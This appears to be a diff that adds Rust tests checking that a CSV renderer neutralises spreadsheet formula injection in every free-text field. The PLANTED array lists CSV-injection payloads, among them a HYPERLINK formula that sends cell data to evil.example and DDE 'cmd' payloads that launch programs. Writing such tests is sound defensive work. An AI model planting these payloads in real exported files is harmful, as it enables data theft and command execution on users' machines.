@@ -432,3 +432,124 @@ fn extreme_values_render() {
     assert!(h.contains("&lt;script&gt;"));
     assert!(h.contains("app CPU"));
 }
+
+/// What a peer or a file may plant in a text field to have a spreadsheet run it (issue 37's
+/// list, OWASP's first characters of a formula).
+const PLANTED: [&str; 9] = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "-1+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "+1",
+    "\t=1",
+    "\r=1",
+    "=1+2\";=1+2",
+    "-1",
+    "=cmd|' /C notepad'!'A1'",
+];
+
+/// Every string of `v` replaced by a planted formula where the document still parses with it:
+/// by construction, every text field a file controls (the parse decides which are free text).
+fn plant_everywhere(doc: &mut serde_json::Value) -> usize {
+    fn strings(v: &serde_json::Value, at: &mut Vec<String>, out: &mut Vec<String>) {
+        match v {
+            serde_json::Value::String(_) => out.push(format!("/{}", at.join("/"))),
+            serde_json::Value::Array(a) => {
+                for (i, x) in a.iter().enumerate() {
+                    at.push(i.to_string());
+                    strings(x, at, out);
+                    at.pop();
+                }
+            }
+            serde_json::Value::Object(o) => {
+                for (k, x) in o {
+                    at.push(k.replace('~', "~0").replace('/', "~1"));
+                    strings(x, at, out);
+                    at.pop();
+                }
+            }
+            _ => {}
+        }
+    }
+    let mut paths = Vec::new();
+    strings(doc, &mut Vec::new(), &mut paths);
+    let mut planted = 0;
+    for (i, p) in paths.iter().enumerate() {
+        let was = doc.pointer(p).cloned().unwrap();
+        *doc.pointer_mut(p).unwrap() = PLANTED[i % PLANTED.len()].into();
+        if Document::parse(doc.to_string().as_bytes()).is_ok() {
+            planted += 1;
+        } else {
+            *doc.pointer_mut(p).unwrap() = was;
+        }
+    }
+    planted
+}
+
+/// Every cell of `text`, read as a spreadsheet's CSV import reads it: none starts a formula
+/// unless it is a number (a negative one), and a neutralised cell starts with `'`.
+fn no_cell_runs(text: &str) -> Vec<Vec<String>> {
+    let mut r = ::csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(false)
+        .from_reader(text.as_bytes());
+    let rows: Vec<Vec<String>> = r
+        .records()
+        .map(|rec| rec.unwrap().iter().map(str::to_string).collect())
+        .collect();
+    for row in &rows {
+        for cell in row {
+            if cell.starts_with(csv::FORMULA_STARTS) {
+                assert!(
+                    cell.starts_with('-') && cell.parse::<f64>().is_ok(),
+                    "a cell a spreadsheet runs: {cell:?} in {text}"
+                );
+            }
+        }
+    }
+    rows
+}
+
+#[test]
+fn no_csv_cell_is_a_formula() {
+    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/data");
+    let mut errors_seen = 0;
+    for name in ["test.json", "repeat.json", "sweep.json"] {
+        let mut v: serde_json::Value =
+            serde_json::from_slice(&std::fs::read(dir.join(name)).unwrap()).unwrap();
+        if name == "sweep.json" {
+            // every cell failed, with a planted error, and one negative throughput kept
+            let cells = v["matrix"]["cells"].as_array_mut().unwrap();
+            let mut k = 0;
+            for row in cells.iter_mut() {
+                for cell in row.as_array_mut().unwrap() {
+                    cell["error"] = "x".into();
+                    if k == 0 {
+                        cell["runs"] = serde_json::json!([-5.5]);
+                        cell["median"] = serde_json::json!(-5.5);
+                    }
+                    k += 1;
+                }
+            }
+        }
+        let planted = plant_everywhere(&mut v);
+        assert!(planted > 0, "{name}: nothing planted");
+        let doc = Document::parse(v.to_string().as_bytes()).unwrap();
+        let mut out = Vec::new();
+        csv::render(&doc, &mut out).unwrap();
+        let text = String::from_utf8(out).unwrap();
+        let rows = no_cell_runs(&text);
+        if name == "sweep.json" {
+            let error = rows[0].iter().position(|h| h == "error").unwrap();
+            for row in &rows[1..] {
+                let cell = &row[error];
+                let original = cell.strip_prefix('\'').unwrap_or(cell);
+                assert!(PLANTED.contains(&original), "{cell:?}");
+                assert_eq!(cell, &format!("'{original}"), "neutralised: {text}");
+                errors_seen += 1;
+            }
+            // a negative number stays a number: bare in the file
+            assert!(text.contains(",-5.5,1,-5.5,"), "{text}");
+        }
+    }
+    assert_eq!(errors_seen, 4);
+}
